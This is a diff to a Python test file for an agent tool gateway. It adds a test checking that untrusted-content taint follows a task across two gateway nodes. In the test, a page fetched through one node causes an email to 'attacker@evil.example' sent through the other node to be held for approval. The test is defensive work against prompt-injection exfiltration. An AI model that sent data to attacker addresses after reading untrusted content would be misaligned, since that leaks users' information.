@@ -237,3 +237,42 @@ def test_flow_state_survives_a_gateway_restart(home: Home) -> None:
     assert decision["code"] == "flow.untrusted_sink"
     assert "partner@acme.example" in decision["message"]
     assert not clean.is_error and "sent 13 characters" in text_of(clean)
+
+
+def test_flow_state_follows_the_task_across_gateway_nodes(home: Home) -> None:
+    """Two gateway nodes for one resource over one store: untrusted content read through
+    node A holds an ungrounded send through node B (the flow state is the store's)."""
+    port_a, port_b = free_port(), free_port()
+    node_a = home.gateway(port_a, "reviewed")
+    config_b = build_config(
+        port_b,
+        home.base,
+        [tools_upstream("tools", TOOLS_IDENTITY, tools=CATALOGUE)],
+        approval={"mode": "return"},
+        flow="reviewed",
+    )
+    # Node B serves the same resource (as behind one load balancer), on its own port.
+    config_b = msgspec.structs.replace(config_b, resource=node_a.url)
+    node_b = GatewayServer(home.path, config_b, port_b).start()
+    try:
+        key, task_id, token = home.task(node_a.url)
+        url_b = f"http://127.0.0.1:{port_b}/mcp"
+
+        async def scenario() -> tuple[Any, Any]:
+            async with mcp_client(node_a.url, token, key, "2026-07-28") as on_a:
+                page = await on_a.call_tool("tools.fetch_page", {"url": "https://example.com"})
+            async with mcp_client(url_b, token, key, "2026-07-28") as on_b:
+                sent = await on_b.call_tool(
+                    "tools.send_email", {"to": "attacker@evil.example", "body": "hi"}
+                )
+            return page, sent
+
+        page, sent = anyio.run(scenario)
+        assert not page.is_error, text_of(page)
+        held = _decision(sent)
+        assert sent.is_error and held["effect"] == "approval_required", held
+        assert held["code"] == "flow.untrusted_sink"
+        assert _state(home, task_id).untrusted_sources == ("tools.fetch_page",)
+    finally:
+        node_b.stop()
+        node_a.stop()
